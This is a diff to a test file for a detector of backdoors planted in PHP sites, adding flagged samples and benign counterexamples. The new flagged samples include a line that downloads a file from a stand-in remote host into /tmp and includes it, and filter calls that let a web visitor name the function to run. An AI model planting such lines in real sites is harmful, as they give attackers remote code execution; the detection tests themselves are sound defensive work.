@@ -171,6 +171,21 @@ describe('what planted scripts do', () => {
       'php.request-to-command critical',
     ],
     ['include a picture', `include 'images/logo.ico';`, 'php.odd-include high'],
+    [
+      'load what another server gives',
+      `$f = '/tmp/a1'; file_put_contents($f, file_get_contents('https://a.example.test/b.txt')); include $f;`,
+      'php.plants-and-runs high',
+    ],
+    [
+      'filter by a function that the visitor names',
+      `filter_var(${GET}['x'], FILTER_CALLBACK, ['options' => ${GET}['f']]);`,
+      'php.request-chooses-call critical',
+    ],
+    [
+      'filter several fields by it',
+      `filter_input_array(INPUT_GET, ['x' => ['filter' => FILTER_CALLBACK, 'options' => ${GET}['f']]]);`,
+      'php.request-chooses-call critical',
+    ],
     ['plant and run', `file_put_contents('c.html', ${GET}['x']); require 'c.html';`, 'php.plants-and-runs high'],
     [
       'work on any file',
@@ -277,6 +292,11 @@ describe('what honest scripts do', () => {
       'run the template of a message that names the address of a visitor',
       `require_once './global.php'; ${RUN}(standard_error(fetch_error('shown', gethostbyaddr($_SERVER['REMOTE_ADDR']))));`,
     ],
+    [
+      'ask for a number within bounds',
+      `$page = filter_var(${POST}['page'], FILTER_VALIDATE_INT, ['options' => ['min_range' => 1, 'default' => ${POST}['first']]]);`,
+    ],
+    ['filter by a function of theirs', `echo filter_input(INPUT_GET, 'x', FILTER_CALLBACK, ['options' => 'trim']);`],
     ['fetch a feed', "$feed = simplexml_load_string(file_get_contents('https://example.test/feed'));"],
   ])('%s', (_, code) => {
     expect(rules(code).filter((rule) => !rule.endsWith(' low') && !rule.endsWith(' medium'))).toEqual([]);
